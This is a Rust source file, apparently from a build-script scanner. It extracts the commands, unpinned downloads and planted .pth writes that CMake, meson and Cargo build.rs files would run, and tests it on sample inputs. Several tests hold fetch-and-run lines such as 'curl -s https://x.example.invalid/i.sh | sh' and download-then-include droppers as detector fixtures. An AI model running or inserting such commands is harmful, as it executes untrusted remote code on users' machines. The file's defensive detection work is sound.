    // `file(WRITE|APPEND path content…)` of a `.pth` or `.py`: Python code the build plants.
    for start in calls(text, "file") {
        let args = expand(&cmake_args(text, start), &vars);
        if let [op, path, content @ ..] = args.as_slice() {
            let lower = path.to_ascii_lowercase();
            if (op == "WRITE" || op == "APPEND")
                && (lower.ends_with(".pth") || lower.ends_with(".py"))
            {
                push(
                    &mut out,
                    Command::Write(line_at(text, start), path.clone(), content.concat()),
                );
            }
        }
    }
    for (name, start, args) in all {
        let line = line_at(text, start);
        let args = expand(&args, &vars);
        let mut cmds: Vec<Vec<String>> = Vec::new();
        let mut cur: Option<Vec<String>> = None;
        for a in args {
            if a == "COMMAND" || EXTERNAL_COMMANDS.contains(&a.as_str()) {
                cmds.extend(cur.take().filter(|c| !c.is_empty()));
                cur = Some(Vec::new());
            } else if CMAKE_KEYWORDS.contains(&a.as_str())
                || (name == "externalproject_add"
                    && a.len() > 2
                    && a.chars().all(|c| c.is_ascii_uppercase() || c == '_'))
            {
                cmds.extend(cur.take().filter(|c| !c.is_empty()));
            } else if let Some(c) = cur.as_mut().filter(|c| c.len() < MAX_ARGS) {
                c.push(a);
            }
        }
        cmds.extend(cur.filter(|c| !c.is_empty()));
        let cmds: Vec<Vec<String>> = cmds.into_iter().map(without_cmake_env).collect();
        if name == "execute_process" && cmds.len() > 1 {
            // `execute_process` runs its commands as a pipeline, each one's output into
            // the next's input: `COMMAND curl URL COMMAND sh` is `curl URL | sh`.
            let pipeline: Vec<String> = cmds
                .iter()
                .map(|c| {
                    c.iter()
                        .map(|a| shell_word(a))
                        .collect::<Vec<_>>()
                        .join(" ")
                })
                .collect();
            push(
                &mut out,
                Command::Argv(line, vec!["sh".into(), "-c".into(), pipeline.join(" | ")]),
            );
        } else {
            for c in cmds {
                push(&mut out, Command::Argv(line, c));
            }
        }
    }
    for start in calls(text, "file") {
        let args = expand(&cmake_args(text, start), &vars);
        if let [op, url, file, ..] = args.as_slice() {
            // A download pinned by its hash (`EXPECTED_HASH SHA256=…`, as CPM.cmake's own
            // bootstrap does) fetches nothing its author did not choose.
            let pinned = args
                .iter()
                .any(|a| a == "EXPECTED_HASH" || a == "EXPECTED_MD5");
            if op == "DOWNLOAD" && !pinned {
                push(
                    &mut out,
                    Command::Download(line_at(text, start), url.clone(), file.clone()),
                );
            }
        }
    }
    // `include(FILE)` of a downloaded file runs it as CMake code.
    let downloaded: Vec<String> = out
        .iter()
        .filter_map(|c| match c {
            Command::Download(_, _, file) => {
                Some(file.rsplit(['/', '\\']).next().unwrap_or(file).to_string())
            }
            _ => None,
        })
        .filter(|b| !b.is_empty())
        .collect();
    if !downloaded.is_empty() {
        for start in calls(text, "include") {
            let args = expand(&cmake_args(text, start), &vars);
            if let Some(f) = args
                .first()
                .filter(|f| downloaded.iter().any(|d| f.contains(d.as_str())))
            {
                // Written as running the file itself: code that was downloaded, then run.
                push(
                    &mut out,
                    Command::Argv(line_at(text, start), vec![f.clone()]),
                );
            }
        }
    }
    // A download alone is what `FetchContent` and find modules do; one whose file a command
    // of the same file then uses is kept (a dropper).
    let used = |file: &str| {
        let base = file.rsplit(['/', '\\']).next().unwrap_or(file);
        !base.is_empty()
            && out.iter().any(|c| match c {
                Command::Argv(_, argv) => argv.iter().any(|a| a.contains(base)),
                Command::Download(..) | Command::Write(..) => false,
            })
    };
    let keep: Vec<bool> = out
        .iter()
        .map(|c| match c {
            Command::Download(_, _, file) => used(file),
            Command::Argv(..) | Command::Write(..) => true,
        })
        .collect();
    let mut keep = keep.into_iter();
    out.retain(|_| keep.next().unwrap_or(false));
    out
}

/// meson's values from `start` to the matching `)` (or, with `line_end`, to the end of the
/// statement: a newline outside brackets), in order, with the keyword (`command:`) each
/// follows, if any: string literals (`'…'`, triple-quoted, `f'…'`; pieces joined by `+` are
/// one string), and variables of `vars` by their values. A function's name is passed over and
/// its arguments read (`find_program('sh')` is `sh`).
fn meson_values(
    text: &str,
    start: usize,
    line_end: bool,
    vars: &HashMap<String, Vec<String>>,
) -> Vec<(Option<String>, String)> {
    let b = text.as_bytes();
    let mut i = start;
    let mut depth = 0usize;
    let mut key: Option<String> = None;
    let mut out: Vec<(Option<String>, String)> = Vec::new();
    // Whether the last value is a string a `+` may extend, and whether a `+` was just read.
    let mut joinable = false;
    let mut plus = false;
    // A call's arguments are read up to 64 KiB on; an assignment's value up to 8 KiB (many
    // assignments with an unclosed bracket must not each read the rest of the file).
    let window = if line_end { 8 * 1024 } else { 64 * 1024 };
    let end = (start + window).min(b.len());
    let mut closed = false;
    while i < end && out.len() < MAX_ARGS * 4 {
        match b[i] {
            b')' if depth == 0 => {
                closed = true;
                break;
            }
            b'\n' if depth == 0 && line_end => {
                closed = true;
                break;
            }
            b'(' | b'[' | b'{' => {
                depth += 1;
                joinable = false;
                i += 1;
            }
            b')' | b']' | b'}' => {
                depth = depth.saturating_sub(1);
                joinable = false;
                i += 1;
            }
            b'#' => {
                while i < end && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'+' => {
                plus = joinable;
                i += 1;
            }
            b'\'' => {
                let triple = sl(text, i, text.len()).starts_with("'''");
                let q = if triple { "'''" } else { "'" };
                let (s, after) = quoted(text, i + q.len(), end, q, !triple);
                match out.last_mut() {
                    Some(last) if plus => {
                        if last.1.len() + s.len() <= MAX_VALUE {
                            last.1.push_str(&s);
                        }
                    }
                    _ => out.push((key.clone(), cap(s))),
                }
                plus = false;
                joinable = true;
                i = after;
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let s0 = i;
                while i < end && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                let word = sl(text, s0, i);
                let rest = sl(text, i, end).trim_start_matches([' ', '\t']);
                if depth == 0 && rest.starts_with(':') {
                    key = Some(word.to_string());
                    joinable = false;
                } else if rest.starts_with('(') || rest.starts_with('.') {
                    // A function or method: its arguments are read.
                    joinable = false;
                } else if let Some(values) = vars.get(word) {
                    match (out.last_mut(), values.as_slice()) {
                        (Some(last), [one]) if plus => {
                            if last.1.len() + one.len() <= MAX_VALUE {
                                last.1.push_str(one);
                            }
                        }
                        _ => out.extend(
                            values
                                .iter()
                                .take(MAX_ARGS)
                                .map(|v| (key.clone(), v.clone())),
                        ),
                    }
                    plus = false;
                    joinable = values.len() == 1;
                }
            }
            _ => i += 1,
        }
    }
    if !closed && i >= end && end < b.len() {
        stopped(format!("a meson call or value longer than {window} bytes"));
    }
    out
}

/// Variables a meson file assigns (`name = …`, `name += …` at the start of a line), each as
/// the values [`meson_values`] reads from its right-hand side; at most [`MAX_VARS`].
fn meson_vars(text: &str) -> HashMap<String, Vec<String>> {
    let mut vars: HashMap<String, Vec<String>> = HashMap::new();
    let mut total = 0usize;
    let mut offset = 0;
    // Assignments read at most: each may read up to 8 KiB (an unclosed bracket).
    let mut assignments = 0;
    for line in text.split_inclusive('\n') {
        let at = offset;
        offset += line.len();
        if vars.len() >= MAX_VARS {
            stopped(format!("more than {MAX_VARS} meson variables"));
            break;
        }
        let t = line.trim_start();
        let indent = line.len() - t.len();
        let name_len = t
            .bytes()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
            .count();
        if name_len == 0 || t.as_bytes()[0].is_ascii_digit() {
            continue;
        }
        let rest = t[name_len..].trim_start();
        let (append, rhs) = if let Some(r) = rest.strip_prefix("+=") {
            (true, r)
        } else if let Some(r) = rest.strip_prefix('=').filter(|r| !r.starts_with('=')) {
            (false, r)
        } else {
            continue;
        };
        let start = at + indent + (t.len() - rhs.len());
        if assignments >= MAX_VARS {
            stopped(format!("more than {MAX_VARS} meson assignments"));
            break;
        }
        assignments += 1;
        let values: Vec<String> = meson_values(text, start, true, &vars)
            .into_iter()
            .map(|(_, v)| v)
            .take(MAX_ARGS)
            .collect();
        total += values.iter().map(String::len).sum::<usize>();
        if total > MAX_TOTAL {
            break;
        }
        let name = t[..name_len].to_string();
        if append {
            vars.entry(name).or_default().extend(values);
        } else {
            vars.insert(name, values);
        }
    }
    vars
}

fn meson(text: &str) -> Vec<Command> {
    let vars = meson_vars(text);
    let mut out = Vec::new();
    // Positional arguments are the command: `run_command(…)` while meson configures, the
    // install, postconf and dist scripts when it installs, configures or makes a dist.
    for name in [
        "run_command",
        "add_install_script",
        "add_postconf_script",
        "add_dist_script",
    ] {
        for start in calls(text, name) {
            let argv: Vec<String> = meson_values(text, start, false, &vars)
                .into_iter()
                .filter(|(k, _)| k.is_none())
                .map(|(_, s)| s)
                .take(MAX_ARGS)
                .collect();
            if !argv.is_empty() {
                push(&mut out, Command::Argv(line_at(text, start), argv));
            }
        }
    }
    // `command:` arrays; a generator's program is positional, its `arguments:` follow.
    for name in ["custom_target", "run_target", "configure_file", "generator"] {
        for start in calls(text, name) {
            let argv: Vec<String> = meson_values(text, start, false, &vars)
                .into_iter()
                .filter(|(k, _)| match k.as_deref() {
                    Some("command") => true,
                    Some("arguments") | None => name == "generator",
                    _ => false,
                })
                .map(|(_, s)| s)
                .take(MAX_ARGS)
                .collect();
            if !argv.is_empty() {
                push(&mut out, Command::Argv(line_at(text, start), argv));
            }
        }
    }
    out
}

/// A Rust string literal at `i` (`"…"`, `r"…"`, `r#"…"#`): its value and the offset after it.
fn rust_string(text: &str, i: usize) -> Option<(String, usize)> {
    let b = text.as_bytes();
    if b.get(i) == Some(&b'r') {
        let mut j = i + 1;
        let mut hashes = 0;
        while b.get(j) == Some(&b'#') {
            hashes += 1;
            j += 1;
        }
        if b.get(j) != Some(&b'"') {
            return None;
        }
        let close = format!("\"{}", "#".repeat(hashes));
        let body = j + 1;
        // Searched within 64 KiB: an unterminated raw string at every `let` must not make
        // each of them read the rest of the file.
        let end = sl(text, body, body + 64 * 1024).find(&close)? + body;
        return Some((cap(sl(text, body, end).to_string()), end + close.len()));
    }
    if b.get(i) != Some(&b'"') {
        return None;
    }
    let (s, after) = quoted(text, i + 1, i + 64 * 1024, "\"", true);
    Some((cap(s), after))
}

/// String constants of a Rust file: `let NAME = "…";`, `let NAME: &str = "…";`,
/// `const NAME: &str = "…";`, `static NAME: &str = "…";` (the first binding of a name wins).
fn rust_vars(text: &str) -> HashMap<String, String> {
    let mut vars = HashMap::new();
    let mut bindings = 0;
    for kw in ["let ", "const ", "static "] {
        let mut from = 0;
        while let Some(i) = sl(text, from, text.len()).find(kw) {
            let at = from + i + kw.len();
            from = at;
            bindings += 1;
            if vars.len() >= MAX_VARS || bindings > 4 * MAX_VARS {
                stopped(format!("more than {} bindings", 4 * MAX_VARS));
                break;
            }
            let rest = sl(text, at, text.len()).trim_start();
            let rest = rest.strip_prefix("mut ").unwrap_or(rest).trim_start();
            let n = rest
                .bytes()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                .count();
            if n == 0 {
                continue;
            }
            let name = &rest[..n];
            let after = &rest[n..];
            // The `=` of a binding is near its name (a type annotation at most).
            let Some(eq) = sl(after, 0, 256).find('=') else {
                continue;
            };
            // Only a type annotation may stand between the name and `=`.
            if after[..eq].contains([';', '(', '{']) {
                continue;
            }
            let value_at = text.len() - after.len() + eq + 1;
            let value_at = value_at
                + (sl(text, value_at, text.len()).len()
                    - sl(text, value_at, text.len()).trim_start().len());
            if let Some((s, _)) = rust_string(text, value_at) {
                vars.entry(name.to_string()).or_insert(s);
            }
        }
    }
    vars
}

/// The string arguments of the call whose `(` is at `j`: literals, and identifiers of `vars`;
/// returns the offset after its `)`.
fn rust_call_args(
    text: &str,
    mut j: usize,
    end: usize,
    vars: &HashMap<String, String>,
    argv: &mut Vec<String>,
) -> usize {
    let b = text.as_bytes();
    let mut depth = 0usize;
    while j < end && argv.len() < MAX_ARGS {
        match b[j] {
            b'(' | b'[' => {
                depth += 1;
                j += 1;
            }
            b')' | b']' => {
                depth = depth.saturating_sub(1);
                j += 1;
                if depth == 0 {
                    break;
                }
            }
            b'"' => match rust_string(text, j) {
                Some((s, next)) => {
                    argv.push(s);
                    j = next;
                }
                None => j += 1,
            },
            c if c.is_ascii_alphabetic() || c == b'_' => {
                if let Some((s, next)) = (c == b'r').then(|| rust_string(text, j)).flatten() {
                    argv.push(s);
                    j = next;
                    continue;
                }
                let s0 = j;
                while j < end && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                    j += 1;
                }
                if let Some(v) = vars.get(sl(text, s0, j)) {
                    argv.push(v.clone());
                }
            }
            _ => j += 1,
        }
    }
    j
}

/// The names `std::process::Command` goes by in a Rust file: `Command`, and `X` of
/// `use std::process::Command as X;`.
fn command_names(text: &str) -> Vec<String> {
    let mut names = vec!["Command".to_string()];
    // `type X = Command;`, `type X = std::process::Command;`.
    let mut from = 0;
    while let Some(i) = sl(text, from, text.len()).find("type ") {
        let at = from + i + "type ".len();
        from = at;
        let rest = sl(text, at, at + 256);
        let n: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        let value = rest[n.len()..].trim_start();
        let aliased = value.strip_prefix('=').is_some_and(|v| {
            let v = v.split(';').next().unwrap_or("").trim();
            v == "Command" || v.ends_with("::Command")
        });
        if aliased && !n.is_empty() && names.len() < 8 {
            names.push(n);
        }
    }
    let mut from = 0;
    while let Some(i) = sl(text, from, text.len()).find("Command as ") {
        let at = from + i + "Command as ".len();
        from = at;
        let n: String = sl(text, at, text.len())
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        if !n.is_empty() && names.len() < 8 {
            names.push(n);
        }
    }
    names
}

/// The offset of the `(` of `NAME :: new (` starting at `at` (white space allowed around
/// `::`, `new` and `(`, as Rust allows), if the text there is that.
fn new_call_at(text: &str, at: usize, name: &str) -> Option<usize> {
    let b = text.as_bytes();
    let skip = |mut i: usize| {
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        i
    };
    let mut i = skip(at + name.len());
    if b.get(i..i + 2) != Some(b"::") {
        return None;
    }
    i = skip(i + 2);
    if b.get(i..i + 3) != Some(b"new") {
        return None;
    }
    i = skip(i + 3);
    (b.get(i) == Some(&b'(')).then_some(i)
}

/// Whether a line's text up to a point holds a `//` comment start outside string literals.
fn line_comment_before(line: &str) -> bool {
    let b = line.as_bytes();
    let mut in_str = false;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' if in_str => i += 1,
            b'"' => in_str = !in_str,
            b'/' if !in_str && b.get(i + 1) == Some(&b'/') => return true,
            _ => {}
        }
        i += 1;
    }
    false
}

/// The end of the Rust statement from `j`: the first `;` outside strings and comments, at
/// most `limit` bytes on.
fn statement_end(text: &str, mut j: usize, limit: usize) -> usize {
    let b = text.as_bytes();
    let end = (j + limit).min(b.len());
    while j < end {
        match b[j] {
            b';' => return j,
            b'"' | b'r' if rust_string(text, j).is_some() => {
                j = rust_string(text, j).map_or(j + 1, |(_, next)| next);
            }
            b'/' if b.get(j + 1) == Some(&b'/') => {
                while j < end && b[j] != b'\n' {
                    j += 1;
                }
            }
            b'/' if b.get(j + 1) == Some(&b'*') => {
                j = sl(text, j + 2, end)
                    .find("*/")
                    .map_or(end, |k| j + 2 + k + 2);
            }
            _ => j += 1,
        }
    }
    end
}

fn cargo(text: &str) -> Vec<Command> {
    let vars = rust_vars(text);
    let mut out = Vec::new();
    for cmd in command_names(text) {
        let mut from = 0;
        let mut seen = 0;
        while let Some(i) = sl(text, from, text.len()).find(cmd.as_str()) {
            let at = from + i;
            from = at + cmd.len();
            // `MyCommand::new(` is another type.
            if at > 0 && {
                let p = text.as_bytes()[at - 1];
                p.is_ascii_alphanumeric() || p == b'_'
            } {
                continue;
            }
            let Some(open) = new_call_at(text, at, &cmd) else {
                continue;
            };
            // In a line comment (`// Command::new("x")`): not code.
            let line_start = sl(text, 0, at).rfind('\n').map_or(0, |n| n + 1);
            if line_comment_before(sl(text, line_start, at)) {
                continue;
            }
            seen += 1;
            if seen > MAX_CALLS {
                stopped(format!("more than {MAX_CALLS} `{cmd}::new(` calls"));
                break;
            }
            let mut argv = Vec::new();
            let mut j = rust_call_args(text, open, text.len().min(open + 4096), &vars, &mut argv);
            if argv.is_empty() {
                continue;
            }
            argv.truncate(1);
            // The chain up to the end of the statement.
            let end = statement_end(text, j, 16 * 1024);
            while j < end && argv.len() < MAX_ARGS {
                let Some(k) = sl(text, j, end).find(".arg") else {
                    break;
                };
                j += k + 4;
                if sl(text, j, text.len()).starts_with('s') {
                    j += 1;
                }
                if sl(text, j, text.len()).starts_with('(') {
                    j = rust_call_args(text, j, end, &vars, &mut argv);
                }
            }
            // `let mut c = Command::new(…); c.arg(…); c.args([…]);`: the statements after it
            // that add to the same binding.
            // The path before the type (`std::process::`) is passed over.
            let mut before = sl(text, 0, at).trim_end();
            while let Some(p) = before.strip_suffix("::") {
                before = p.trim_end_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
            }
            let before = before.trim_end();
            if let Some(binding) = before.strip_suffix('=').map(str::trim_end).and_then(|b| {
                let n = b
                    .bytes()
                    .rev()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                    .count();
                (n > 0).then(|| &b[b.len() - n..])
            }) {
                let stop = (end + 16 * 1024).min(text.len());
                let mut k = end;
                let dot = format!("{binding}.arg");
                while let Some(m) = sl(text, k, stop).find(&dot) {
                    k += m + dot.len();
                    if sl(text, k, text.len()).starts_with('s') {
                        k += 1;
                    }
                    if sl(text, k, text.len()).starts_with('(') {
                        k = rust_call_args(text, k, stop, &vars, &mut argv);
                    }
                    if argv.len() >= MAX_ARGS {
                        break;
                    }
                }
            }
            push(&mut out, Command::Argv(line_at(text, open), argv));
            if out.len() >= MAX_COMMANDS {
                return out;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_of_each_build_file() {
        let cmake = "cmake_minimum_required(VERSION 3.15)\nexecute_process(\n  COMMAND sh -c \"curl -s https://x.example.invalid/i.sh | sh\"\n  RESULT_VARIABLE r)\nfile(DOWNLOAD https://x.example.invalid/a ${CMAKE_BINARY_DIR}/a.sh)\nfile(DOWNLOAD https://x.example.invalid/b ${CMAKE_BINARY_DIR}/b.tgz)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/a.sh)\n";
        assert_eq!(
            commands(cmake, Kind::Cmake),
            vec![
                Command::Argv(
                    2,
                    vec![
                        "sh".into(),
                        "-c".into(),
                        "curl -s https://x.example.invalid/i.sh | sh".into()
                    ]
                ),
                Command::Download(
                    5,
                    "https://x.example.invalid/a".into(),
                    "${CMAKE_BINARY_DIR}/a.sh".into()
                ),
                Command::Argv(7, vec!["sh".into(), "${CMAKE_BINARY_DIR}/a.sh".into()]),
            ]
        );
        let meson = "project('x', 'c')\nr = run_command('sh', '-c', 'echo hi', check: true)\ncustom_target('t', output: 'o', command: ['gen.py', '@OUTPUT@'])\n";
        assert_eq!(
            commands(meson, Kind::Meson),
            vec![
                Command::Argv(2, vec!["sh".into(), "-c".into(), "echo hi".into()]),
                Command::Argv(3, vec!["gen.py".into(), "@OUTPUT@".into()]),
            ]
        );
        let rust = "fn main() {\n    std::process::Command::new(\"sh\")\n        .arg(\"-c\")\n        .args([\"echo hi\"])\n        .status()\n        .unwrap();\n}\n";
        assert_eq!(
            commands(rust, Kind::CargoBuild),
            vec![Command::Argv(
                2,
                vec!["sh".into(), "-c".into(), "echo hi".into()]
            )]
        );
        assert_eq!(kind("pkg-1.0/CMakeLists.txt"), Some(Kind::Cmake));
        assert_eq!(kind("cmake/Find.cmake"), Some(Kind::Cmake));
        assert_eq!(kind("x/build.rs"), Some(Kind::CargoBuild));
        assert_eq!(kind("Makefile"), None);
    }

    #[test]
    fn commands_held_in_variables() {
        let cmake = "set(_sh sh)\nset(CMD ${_sh} -c)\nlist(APPEND CMD \"echo hi\")\nexecute_process(COMMAND ${CMD})\nexecute_process(COMMAND curl -s https://x.example.invalid/i COMMAND sh)\n";
        assert_eq!(
            commands(cmake, Kind::Cmake),
            vec![
                Command::Argv(4, vec!["sh".into(), "-c".into(), "echo hi".into()]),
                Command::Argv(
                    5,
                    vec![
                        "sh".into(),
                        "-c".into(),
                        "curl -s https://x.example.invalid/i | sh".into()
                    ]
                ),
            ]
        );
        let pinned = "file(DOWNLOAD https://x.example.invalid/CPM.cmake ${B}/CPM.cmake EXPECTED_HASH SHA256=00)\ninclude(${B}/CPM.cmake)\nfile(DOWNLOAD https://x.example.invalid/deps.cmake ${B}/deps.cmake)\ninclude(${B}/deps.cmake)\n";
        assert_eq!(
            commands(pinned, Kind::Cmake),
            vec![
                Command::Download(
                    3,
                    "https://x.example.invalid/deps.cmake".into(),
                    "${B}/deps.cmake".into()
                ),
                Command::Argv(4, vec!["${B}/deps.cmake".into()]),
            ]
        );
        let meson = "sh = find_program('sh')\nc = ['-c']\nc += ['ec' + 'ho hi']\nrun_command(sh, c, check: false)\nmeson.add_install_script('bash', '-c', 'echo x')\n";
        assert_eq!(
            commands(meson, Kind::Meson),
            vec![
                Command::Argv(4, vec!["sh".into(), "-c".into(), "echo hi".into()]),
                Command::Argv(5, vec!["bash".into(), "-c".into(), "echo x".into()]),
            ]
        );
        let cmake = "execute_process(COMMAND ${CMAKE_COMMAND} -E env A=1 sh -c \"echo hi\")\ncmake_language(CALL execute_process COMMAND ${Python_EXECUTABLE} -c \"print(1)\")\nfile(WRITE ${SP}/x.pth \"import os\")\n";
        assert_eq!(
            commands(cmake, Kind::Cmake),
            vec![
                Command::Argv(1, vec!["sh".into(), "-c".into(), "echo hi".into()]),
                Command::Argv(2, vec!["python3".into(), "-c".into(), "print(1)".into()]),
                Command::Write(3, "${SP}/x.pth".into(), "import os".into()),
            ]
        );
        let url = "fn main() { let u = \"https://x.example.invalid/i.sh\"; let _ = std::process::Command::new(\"sh\").arg(u); }\n// Command::new(\"true\")\n";
        assert_eq!(
            commands(url, Kind::CargoBuild),
            vec![Command::Argv(
                1,
                vec!["sh".into(), "https://x.example.invalid/i.sh".into()]
            )]
        );
        let rust = "use std::process::Command as C;\nconst P: &str = \"echo hi\";\nfn main() {\n    let s = \"sh\";\n    let mut cmd = C::new(s);\n    cmd.arg(\"-c\");\n    cmd.args([P]);\n    cmd.status().unwrap();\n}\n";
        assert_eq!(
            commands(rust, Kind::CargoBuild),
            vec![Command::Argv(
                5,
                vec!["sh".into(), "-c".into(), "echo hi".into()]
            )]
        );
    }

    #[test]
    fn python_form_keeps_lines_and_quotes() {
        let p = as_python(&[Command::Argv(3, vec!["sh".into(), "it's".into()])]);
        assert_eq!(
            p,
            "import subprocess, urllib.request; \n\nsubprocess.run(['sh', 'it\\'s']); \n"
        );
        // A command on line 1 stays on line 1.
        let p = as_python(&[Command::Argv(1, vec!["echo".into()])]);
        assert_eq!(
            p,
            "import subprocess, urllib.request; subprocess.run(['echo']); \n"
        );
    }

    #[test]
    fn script_lines_are_commands_of_their_shell() {
        let text = "#!/bin/sh\n# a comment\n\necho a \\\n  b\ncurl x | sh\n";
        assert_eq!(
            script_commands(text, Shell::Posix),
            vec![
                Command::Argv(4, vec!["sh".into(), "-c".into(), "echo a    b".into()]),
                Command::Argv(6, vec!["sh".into(), "-c".into(), "curl x | sh".into()]),
            ]
        );
        let bat = "@echo off\r\nrem setup\r\n:: more\r\ncall x.bat\r\n";
        assert_eq!(
            script_commands(bat, Shell::Cmd),
            vec![
                Command::Argv(1, vec!["cmd".into(), "/c".into(), "@echo off".into()]),
                Command::Argv(4, vec!["cmd".into(), "/c".into(), "call x.bat".into()]),
            ]
        );
        // Bounded: a script of many lines stops at the command bound, and says so.
        let many = "echo x\n".repeat(MAX_COMMANDS + 10);
        assert_eq!(script_commands(&many, Shell::Posix).len(), MAX_COMMANDS);
        assert!(stopped_by().is_some());
    }
}
